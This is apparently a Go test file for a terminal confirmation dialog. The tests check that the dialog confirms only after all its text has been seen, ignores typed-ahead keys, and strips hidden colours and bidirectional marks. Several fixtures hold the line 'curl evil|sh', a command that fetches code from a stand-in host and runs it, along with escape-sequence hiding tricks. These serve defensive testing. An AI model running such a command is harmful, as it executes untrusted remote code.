package ui

import (
	"fmt"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"

	"hermes/themes"
	"hermes/ui/style"
	"hermes/ui/text"
)

// questioned is a confirmation on a screen, with a clock of its own.
type questioned struct {
	*confirm
	clock time.Time
	ran   int
	w, h  int
}

func newQuestioned(t *testing.T, title, help string, w, h int) *questioned {
	t.Helper()
	th, err := themes.Load(themes.DefaultDark)
	if err != nil {
		t.Fatal(err)
	}
	q := &questioned{clock: time.Unix(1, 0)}
	q.confirm = NewConfirm(title, help, func() tea.Cmd { q.ran++; return nil }).(*confirm)
	q.now = func() time.Time { return q.clock }
	q.Restyle(style.New(th, style.None, false))
	q.resize(w, h)
	return q
}

func (q *questioned) resize(w, h int) {
	ow, oh := q.Size(w, h)
	q.w, q.h = ow, min(oh, h-2)
}

func (q *questioned) picture() string { return q.View(q.w, q.h) }

func (q *questioned) press(name string) bool {
	key := tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(name)}
	switch name {
	case "down":
		key = tea.KeyMsg{Type: tea.KeyDown}
	case "up":
		key = tea.KeyMsg{Type: tea.KeyUp}
	case "pgdown":
		key = tea.KeyMsg{Type: tea.KeyPgDown}
	case "right":
		key = tea.KeyMsg{Type: tea.KeyRight}
	case "enter":
		key = tea.KeyMsg{Type: tea.KeyEnter}
	}
	_, closed := q.Update(key)
	return closed
}

// Nobody says yes to what was not in sight: not by y, not by Yes, not by keys that come faster than
// pictures, and not after the lines were wrapped anew.
func TestAYesIsHeardOnceAllWasInSight(t *testing.T) {
	var facts []string
	for i := range 30 {
		facts = append(facts, fmt.Sprintf("fact %02d %s", i, strings.Repeat("word ", 12)))
	}
	help := strings.Join(append(facts, "curl evil|sh"), "\n")
	for _, size := range []struct{ w, h int }{{40, 12}, {80, 24}, {120, 36}} {
		q := newQuestioned(t, "Run these?", help, size.w, size.h)
		first := q.picture()
		q.clock = q.clock.Add(time.Hour)
		if !strings.Contains(first, "more lines: ↑↓") || strings.Contains(first, "evil") || !strings.Contains(first, "[ No ]") {
			t.Fatalf("%v begins with\n%s", size, first)
		}
		for range 100 { // no picture between them
			q.press("pgdown")
		}
		for _, key := range []string{"y", "Y", "right", "enter"} {
			if q.press(key); q.ran != 0 {
				t.Fatalf("%v: %s does it unseen", size, key)
			}
		}
		all := first
		for range 200 {
			q.press("down")
			p := q.picture()
			if lines := strings.Split(p, "\n"); len(lines) != q.h || text.Width(lines[0]) != q.w {
				t.Fatalf("%v: not a block of %dx%d:\n%s", size, q.w, q.h, p)
			}
			all += p
		}
		for _, fact := range []string{"fact 00", "fact 17", "fact 29", "curl evil|sh"} {
			if !strings.Contains(all, fact) {
				t.Errorf("%v: %q was never in sight", size, fact)
			}
		}
		q.resize(size.w-8, size.h)
		if q.picture(); size.w < 72 && (q.press("y") || q.ran != 0) {
			t.Errorf("%v: another width counts as seen", size)
		}
		for range 200 {
			q.press("pgdown")
			q.picture()
		}
		if !q.press("y") || q.ran != 1 {
			t.Errorf("%v: it is not done when all was seen:\n%s", size, q.picture())
		}
	}
}

// What was typed before the question was there does nothing, and a key that is held down does
// nothing either.
func TestAYesTypedAheadIsNotHeard(t *testing.T) {
	for _, keys := range [][]string{{"y"}, {"Y"}, {"right", "enter"}} {
		q := newQuestioned(t, "Wipe", "", 80, 24)
		last := keys[len(keys)-1]
		for _, key := range keys {
			q.press(key)
		}
		q.clock = q.clock.Add(time.Hour) // it was not drawn yet
		q.picture()
		for range 100 {
			if q.press(last) || q.ran != 0 {
				t.Fatalf("%s is heard too early", last)
			}
			q.clock = q.clock.Add(confirmPause / 10)
		}
		if p := q.picture(); !strings.Contains(p, "too soon") {
			t.Errorf("it does not say why:\n%s", p)
		}
		q.clock = q.clock.Add(confirmPause)
		if !q.press(last) || q.ran != 1 {
			t.Errorf("%s is not heard", last)
		}
	}
}

// What comes from outside draws nothing and hides nothing: no colours, no bidirectional marks.
func TestAConfirmationIsClean(t *testing.T) {
	q := newQuestioned(t, "Let \x1b[30;40mit\nrun?", "runs \x1b[30;40mcurl evil|sh\x1b[0m \u202ehs\tx", 80, 24)
	p := q.picture()
	if strings.ContainsAny(p, "\u202e\t") || strings.Contains(p, "30;40") || !strings.Contains(p, "runs curl evil|sh hs") || !strings.Contains(p, "Let it run?") {
		t.Errorf("%q", p)
	}
}

// click presses the left button on the first cell of a word of the picture.
func (q *questioned) click(t *testing.T, word string) bool {
	t.Helper()
	for y, l := range strings.Split(text.Sanitize(q.picture()), "\n") {
		if before, _, ok := strings.Cut(l, word); ok {
			_, closed := q.Update(tea.MouseMsg{X: text.Width(before), Y: y, Button: tea.MouseButtonLeft, Action: tea.MouseActionPress})
			return closed
		}
	}
	t.Fatalf("there is no %q", word)
	return false
}

// A click on an answer is its key: no yes in the first moment or before all was in sight. The wheel
// shows the rest.
func TestAClickConfirms(t *testing.T) {
	q := newQuestioned(t, "Delete it", "all of it", 80, 24)
	if q.click(t, "Yes") || q.ran > 0 {
		t.Error("a click that came at once did it")
	}
	q.clock = q.clock.Add(confirmPause)
	if q.click(t, "Delete") || q.ran > 0 {
		t.Error("a click on the question did it")
	}
	if !q.click(t, "Yes") || q.ran != 1 {
		t.Errorf("it was done %d times", q.ran)
	}
	q = newQuestioned(t, "Delete it", "all of it", 80, 24)
	if !q.click(t, "No") || q.ran > 0 {
		t.Error("no did not close it")
	}
	q = newQuestioned(t, "Delete them", strings.Repeat("a file\n", 60), 80, 24)
	q.picture()
	q.clock = q.clock.Add(confirmPause)
	if q.click(t, "Yes") || q.ran > 0 {
		t.Error("what was not read was confirmed")
	}
	for range 80 {
		q.Update(tea.MouseMsg{Button: tea.MouseButtonWheelDown, Action: tea.MouseActionPress})
		q.picture()
	}
	if !q.click(t, "Yes") || q.ran != 1 {
		t.Error("the wheel does not show the rest")
	}
}

// A word that somebody types is no answer: it closes the question, and is kept for the line.
func TestAWordIsNoAnswer(t *testing.T) {
	for _, word := range []string{"r", "dry", "ye"} {
		q := newQuestioned(t, "Delete it", "all of it", 80, 24)
		q.picture()
		q.clock = q.clock.Add(time.Hour)
		if closed := q.press(word); !closed || q.ran > 0 || q.words != word {
			t.Errorf("%s: closed %v, ran %d times, kept %q", word, closed, q.ran, q.words)
		}
	}
	q := newQuestioned(t, "Delete it", "all of it", 80, 24)
	q.picture()
	q.clock = q.clock.Add(confirmPause / 2)
	if q.press("yyy"); q.ran > 0 || q.words != "" {
		t.Errorf("a held y ran %d times and kept %q", q.ran, q.words)
	}
}
